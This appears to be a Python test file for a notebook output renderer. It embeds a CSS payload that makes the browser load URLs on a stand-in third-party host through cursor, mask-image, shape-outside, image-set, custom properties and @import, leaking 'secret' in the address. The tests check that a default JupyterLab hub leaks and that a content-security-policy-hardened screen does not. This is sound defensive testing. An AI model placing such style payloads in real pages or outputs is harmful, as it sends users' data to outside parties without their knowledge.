"""Print a style with pointers, masks, shapes and sets of pictures of a third party, the address being the data.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: `img-src` lets no other origin in, and `style-src` no imported style
"""

OUTPUT = """
<style>
#leak::before {content: url(THIRD/secret)}
#leak {cursor: url(THIRD/secret-2), auto; mask-image: url(THIRD/secret-3); shape-outside: url(THIRD/secret-4);
  background: image-set("THIRD/secret-5" 1x); --later: url(THIRD/secret-6); list-style-image: var(--later)}
@import "THIRD/secret-7" layer(x);
</style>
<p id="leak">.</p>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")


def test_the_third_party_hears_nothing(any_screen, third_party) -> None:
    any_screen.show(OUTPUT, third_party)
    third_party.hears_nothing()
